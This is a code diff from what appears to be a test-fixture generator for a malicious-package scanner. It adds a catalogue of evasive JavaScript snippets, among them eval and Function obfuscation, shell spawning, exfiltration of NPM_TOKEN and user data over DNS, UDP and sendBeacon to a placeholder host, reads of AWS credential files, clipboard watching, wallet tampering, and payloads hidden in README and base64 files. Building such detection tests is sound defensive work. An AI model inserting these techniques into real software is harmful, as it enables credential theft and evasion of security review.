@@ -65,6 +65,46 @@ export const kinds = {
   'starts again with the shell': (load) => `${load('fs')}.appendFileSync(${load('os')}.homedir() + "/.bashrc", "# x");`,
   'loads a compiled file': () => `process.dlopen({ exports: {} }, "./lib.bin");`,
   'behind a megabyte of filler': (load) => `/*${' filler'.repeat(150_000)}*/\n${load('child_process')}.exec("id");`,
+  'by Reflect': () => `Reflect.get(globalThis, "eval")("globalThis.r9 = 1");`,
+  'the constructor of a constructor': () => `[].constructor.constructor("globalThis.k9 = process.env")();`,
+  'Function by another name': () => `const make_9 = Function; new make_9("globalThis.f9 = 1")();`,
+  'names in brackets': () => `globalThis["process"]["getBuiltinModule"]("child_process")["execSync"]("id");`,
+  'an imported data: URL': () => `import("data:text/javascript,globalThis.d9=process.env.NPM_TOKEN");`,
+  WebAssembly: () => `WebAssembly.instantiate(Uint8Array.from([0, 97, 115, 109])).then((m) => m.instance);`,
+  'a worker of a string': (load) => `new (${load('worker_threads')}.Worker)("globalThis.w9 = 1", { eval: true });`,
+  'a script of vm': (load) => `${load('vm')}.runInThisContext("globalThis.v9 = 1");`,
+  'a binding of process': () => `process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });`,
+  'the environment in a DNS name': (load) =>
+    `${load('dns')}.lookup(Buffer.from(process.env.NPM_TOKEN || "").toString("hex") + ".${host}", () => {});`,
+  'a datagram': (load) => `${load('dgram')}.createSocket("udp4").send(String(process.env.USER), 53, "${address}");`,
+  'credentials of a cloud': (load) =>
+    `${load('fs')}.readFile(${load('path')}.join(${load('os')}.homedir(), ".aws", "credentials"), () => {});`,
+  'a beacon': () => `navigator.sendBeacon("https://${host}/", localStorage.getItem("token"));`,
+  'a clipboard that is watched': () =>
+    `setInterval(() => navigator.clipboard.readText().then((t) => (globalThis.c9 = t)), 500);`,
+  'a hook in the language': () =>
+    `const map_9 = Array.prototype.map; Array.prototype.map = function (f) { return map_9.call(this, f); };`,
+  'a wallet’s signature': () => `window.solana.signTransaction = (t) => t;`,
+  'a module that main loads': () => `process.mainModule.require("child_process").exec("id");`,
+  'a name in percent signs': (load) =>
+    `${load('X').replace('"X"', 'unescape("%63%68%69%6c%64%5f%70%72%6f%63%65%73%73")')}.exec("id");`,
+  'a name out of an object': (load) =>
+    `const of_9 = { a: "child_", b: "process" }; ${load('X').replace('"X"', 'of_9.a + of_9.b')}.exec("id");`,
+}
+
+/** Code in a file that is none of code, and the line that runs it. */
+export const inOtherFile = {
+  'in a README that is required': {
+    name: 'implant-readme.md',
+    data: () => `//# Notes\nrequire("${spawn};\n`,
+    line: () => `typeof require === "function" && require("./implant-readme.md");`,
+  },
+  'in a packed test file': {
+    name: 'implant-large.xz',
+    data: () => base64(`require("${spawn}`),
+    line: (load) =>
+      `(0, eval)(Buffer.from(${load('fs')}.readFileSync("./implant-large.xz", "utf8"), "base64").toString("utf8"));`,
+  },
 }
 
 /** Code that comes out of a file of data: what the data holds, and the line that runs it. */
